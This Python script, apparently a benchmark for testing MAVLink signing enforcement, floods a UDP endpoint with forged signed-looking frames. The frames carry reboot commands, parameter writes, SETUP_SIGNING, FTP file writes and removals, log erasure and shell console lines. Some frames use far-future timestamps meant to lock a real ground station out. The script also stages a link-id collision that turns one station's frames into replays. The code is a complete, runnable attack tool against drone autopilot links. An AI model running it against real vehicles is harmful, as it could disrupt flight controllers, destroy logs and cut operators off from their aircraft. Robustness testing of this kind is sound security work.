"""Attacks on a MAVLink link that requires signing: signed-looking garbage and link-id collisions.

`signed_garbage_flood` sends MAVLink 2 frames that look signed to whoever does not hold the
key: the signed flag set, a valid CRC, a random 6-byte signature, a random link id and a
random far-future timestamp. The bodies are the messages an attacker would want obeyed
(PARAM_SET, COMMAND_LONG reboot and thread restart, SETUP_SIGNING, FTP create/write/remove,
LOG_ERASE, console lines), reads, random messages of every id, and PARAM_SETs that impersonate
a usual ground station's stream (system 255, component 190, link ids 0-3) with timestamps up
to 2^48 - 1: if a receiver recorded a stream's timestamp before checking the signature, one
of these would lock the real ground station out for years.

The CRC does not cover the 13 bytes of the signature block, so a pool of bodies is built once
and every datagram gets a fresh link id, timestamp and signature: the sender's cost per frame
is a few microseconds, and the flood is as fast as one Python process can send.

`link_id_collision` plays two ground stations that share the key, the system and component id
and the link id, with clocks 5 s apart: per the MAVLink signing spec they are one stream, so
the frames of the one whose clock lags are replays to the aircraft.

Run alone for a manual check (rate 0: as fast as possible):

    python bench/signed_flood.py 127.0.0.1 14550 --seconds 5 --rate 0
"""

from __future__ import annotations

import argparse
import json
import random
import select
import socket
import struct
import time
from collections import Counter

from pymavlink.dialects.v20 import common as mavlink

EPOCH_2015_US = 1_420_070_400 * 1_000_000
MAX_TIMESTAMP = (1 << 48) - 1  # 6 bytes of 10 us units: about year 2104
MINUTE_10US = 60 * 100_000
POOL_SIZE = 2048  # distinct bodies (header + payload + CRC); the signature block varies per send
GCS_SYSID, GCS_COMPID = 255, 190  # what MAVProxy, QGroundControl and MAVSDK use by default

KINDS = ("param_set", "command_long", "setup_signing", "ftp_write", "log_erase", "console",
         "read", "random_msg", "impersonate")

# FTP opcodes that write (MAVLink FTP spec): create, write, remove file, mkdir, rmdir, open WO,
# truncate, rename
_FTP_WRITES = (6, 7, 8, 9, 10, 11, 12, 13)


def signing_timestamp_now() -> int:
    """MAVLink signing time now: 10 us units since 2015-01-01 00:00 UTC."""
    return (time.time_ns() // 1000 - EPOCH_2015_US) // 10


def _signed_body(msg_id: int, payload: bytes, sysid: int, compid: int, seq: int) -> bytes:
    """Header, payload and a valid CRC of a MAVLink 2 frame with the signed flag set."""
    while len(payload) > 1 and payload[-1] == 0:  # MAVLink 2 trims trailing zeros
        payload = payload[:-1]
    header = struct.pack("<BBBBBBBHB", 0xFD, len(payload), 0x01, 0, seq & 0xFF, sysid, compid,
                         msg_id & 0xFFFF, msg_id >> 16)
    crc = mavlink.x25crc(header[1:] + payload)
    crc.accumulate(bytes([int(mavlink.mavlink_map[msg_id].crc_extra)]))
    return header + payload + struct.pack("<H", crc.crc)


def _payload(msg: mavlink.MAVLink_message, mav: mavlink.MAVLink) -> bytes:
    """A message's MAVLink 2 payload (packed unsigned by `mav`, header and CRC cut off)."""
    frame = msg.pack(mav)
    return bytes(frame[10:-2])


class SignedGarbage:
    """Makes signed-looking forged datagrams; deterministic for a seed."""

    def __init__(self, seed: int = 0, *, target_system: int = 1) -> None:
        self.rng = random.Random(seed)
        self.target = target_system
        self.mav = mavlink.MAVLink(None, GCS_SYSID, GCS_COMPID)
        self.ids = sorted(mavlink.mavlink_map)
        self.pool = [self._body(self.rng.choice(KINDS)) for _ in range(POOL_SIZE)]

    def _body(self, kind: str) -> tuple[str, bytes, bool]:
        """(kind, body, impersonates a usual ground station's stream)."""
        rng, t, mav = self.rng, self.target, self.mav
        msg: mavlink.MAVLink_message
        if kind == "param_set":
            name = rng.choice([b"TST_F", b"MAV0RX_ENABLE", b"MGR_EXEC_TIME_S", b"MAV_BULK_KB_S",
                               b"CTL_MODE", rng.randbytes(16)])
            msg = mavlink.MAVLink_param_set_message(t, 1, name, rng.uniform(-1e6, 1e6),
                                                    rng.randrange(1, 11))
        elif kind == "command_long":
            cmd = rng.choice([mavlink.MAV_CMD_PREFLIGHT_REBOOT_SHUTDOWN, 31010,  # thread restart
                              mavlink.MAV_CMD_LOGGING_STOP, mavlink.MAV_CMD_SET_MESSAGE_INTERVAL,
                              rng.randrange(65536)])
            msg = mavlink.MAVLink_command_long_message(t, 1, cmd, 0, 2.0, 0, 0, 0, 0, 0, 0)
        elif kind == "setup_signing":
            msg = mavlink.MAVLink_setup_signing_message(t, 1, list(rng.randbytes(32)),
                                                        rng.randrange(1 << 48))
        elif kind == "ftp_write":
            path = f"/{rng.randrange(10**6)}/forged.bin".encode()
            head = struct.pack("<HBBBBBBI", rng.randrange(65536), 0, rng.choice(_FTP_WRITES),
                               len(path), 0, 0, 0, 0)
            msg = mavlink.MAVLink_file_transfer_protocol_message(
                0, t, 1, list((head + path).ljust(251, b"\0")))
        elif kind == "log_erase":
            msg = mavlink.MAVLink_log_erase_message(t, 1)
        elif kind == "console":
            line = b"param set TST_F 9\n"
            msg = mavlink.MAVLink_serial_control_message(
                mavlink.SERIAL_CONTROL_DEV_SHELL, mavlink.SERIAL_CONTROL_FLAG_RESPOND, 0, 0,
                len(line), list(line.ljust(70, b"\0")))
        elif kind == "read":
            msg = mavlink.MAVLink_param_request_read_message(t, 1, b"", rng.randrange(64))
        elif kind == "impersonate":
            msg = mavlink.MAVLink_param_set_message(t, 1, b"TST_F", rng.uniform(-9, 9),
                                                    mavlink.MAV_PARAM_TYPE_REAL32)
        else:  # random_msg: any id, a random payload no longer than the message's
            msg_id = rng.choice(self.ids)
            size = int(mavlink.mavlink_map[msg_id].unpacker.size)
            body = _signed_body(msg_id, rng.randbytes(rng.randrange(1, size + 1)),
                                rng.randrange(256), rng.randrange(256), rng.randrange(256))
            return kind, body, False
        payload = _payload(msg, mav)
        if kind == "impersonate":
            return kind, _signed_body(msg.id, payload, GCS_SYSID, GCS_COMPID, rng.randrange(256)), True
        return kind, _signed_body(msg.id, payload, rng.randrange(256), rng.randrange(256),
                                  rng.randrange(256)), False

    def frame(self) -> tuple[str, bytes]:
        """(kind, one forged frame): a pooled body and a fresh link id, far-future timestamp and
        signature. Not counted: the sender counts what its socket took."""
        rng = self.rng
        kind, body, impersonate = self.pool[rng.randrange(POOL_SIZE)]
        link_id = rng.randrange(4) if impersonate else rng.randrange(256)
        now = signing_timestamp_now()
        timestamp = rng.randrange(now + MINUTE_10US, MAX_TIMESTAMP + 1)
        return kind, body + struct.pack("<BQ", link_id, timestamp)[:7] + rng.randbytes(6)


def signed_garbage_flood(host: str, port: int, seconds: float, *, seed: int = 0,
                         rate_per_s: float | None = None,
                         target_system: int = 1) -> dict[str, int]:
    """Send forged signed-looking frames to host:port for `seconds`, at about `rate_per_s`
    (None or 0: as fast as possible). Returns the frames sent per kind (`KINDS`), and
    `send_failed` for datagrams the local socket would not take."""
    gen = SignedGarbage(seed, target_system=target_system)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    dest = (host, port)
    period = 1.0 / rate_per_s if rate_per_s else 0.0
    t_end = time.monotonic() + seconds
    next_t = time.monotonic()
    sent: Counter[str] = Counter()
    try:
        while (now := time.monotonic()) < t_end:
            if period:
                if now < next_t:
                    time.sleep(min(next_t - now, 0.01))
                    continue
                next_t += period
            for _ in range(1 if period else 64):  # check the clock every 64 frames at full speed
                kind, frame = gen.frame()
                try:
                    sock.sendto(frame, dest)
                except OSError:  # a full local buffer, or ECONNREFUSED from an earlier send
                    sent["send_failed"] += 1
                else:
                    sent[kind] += 1
    finally:
        sock.close()
    return dict(sent)


def link_id_collision(host: str, port: int, key: bytes, seconds: float, *,
                      lead_s: float = 5.0, interval_s: float = 0.05) -> dict[str, int]:
    """Two ground stations with one key, system 255, component 190 and link id 1, the second's
    clock `lead_s` behind the first's, each reading a parameter by index (0 for the leading
    one, 1 for the lagging one) every `interval_s` for `seconds`. Returns what each sent and
    how many answers to its own requests came back (on either socket: a `udpin:` link answers
    every recent peer): the lagging one's requests are replays to the aircraft."""
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2)]
    now = signing_timestamp_now()
    signers = []
    for lag in (0, int(lead_s * 100_000)):
        mav = mavlink.MAVLink(None, GCS_SYSID, GCS_COMPID)
        mav.signing.secret_key = key
        mav.signing.link_id = 1
        mav.signing.sign_outgoing = True
        mav.signing.timestamp = now - lag
        signers.append(mav)
    parsers = [mavlink.MAVLink(None, 0, 0) for _ in socks]
    for p in parsers:
        p.robust_parsing = True
    sent = [0, 0]
    answered = [0, 0]
    try:
        for s in socks:
            s.bind(("127.0.0.1", 0))
        t_end = time.monotonic() + seconds
        next_t = time.monotonic()
        while (now_s := time.monotonic()) < t_end:
            if now_s >= next_t:
                next_t += interval_s
                for i, (s, mav) in enumerate(zip(socks, signers, strict=True)):
                    # both clocks run: each frame is stamped with max(own counter, own clock)
                    own_clock = signing_timestamp_now() - (0 if i == 0 else int(lead_s * 100_000))
                    mav.signing.timestamp = max(mav.signing.timestamp, own_clock)
                    msg = mavlink.MAVLink_param_request_read_message(1, 1, b"", i)
                    s.sendto(msg.pack(mav), (host, port))
                    mav.seq = (mav.seq + 1) & 0xFF
                    sent[i] += 1
            ready, _, _ = select.select(socks, [], [], max(0.0, min(next_t, t_end) - time.monotonic()))
            for s in ready:
                data = s.recv(65535)
                for m in parsers[socks.index(s)].parse_buffer(data) or []:
                    if m.get_type() == "PARAM_VALUE" and m.param_index in (0, 1):
                        answered[m.param_index] += 1
    finally:
        for s in socks:
            s.close()
    # a `udpin:` link answers every recent peer, so one request may be counted twice
    return {"leading_sent": sent[0], "lagging_sent": sent[1],
            "leading_answers": answered[0], "lagging_answers": answered[1]}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--rate", type=float, default=0.0,
                    help="datagrams per second (0: as fast as possible)")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--target-system", type=int, default=1)
    ap.add_argument("--json", action="store_true", help="print the counts as one JSON object")
    args = ap.parse_args()
    sent = signed_garbage_flood(args.host, args.port, args.seconds, seed=args.seed,
                                rate_per_s=args.rate or None, target_system=args.target_system)
    if args.json:
        print(json.dumps(sent, sort_keys=True))
        return
    for kind, n in sorted(sent.items()):
        print(f"{kind:14s} {n}")
    print(f"{'total':14s} {sum(n for k, n in sent.items() if k != 'send_failed')}")


if __name__ == "__main__":
    main()
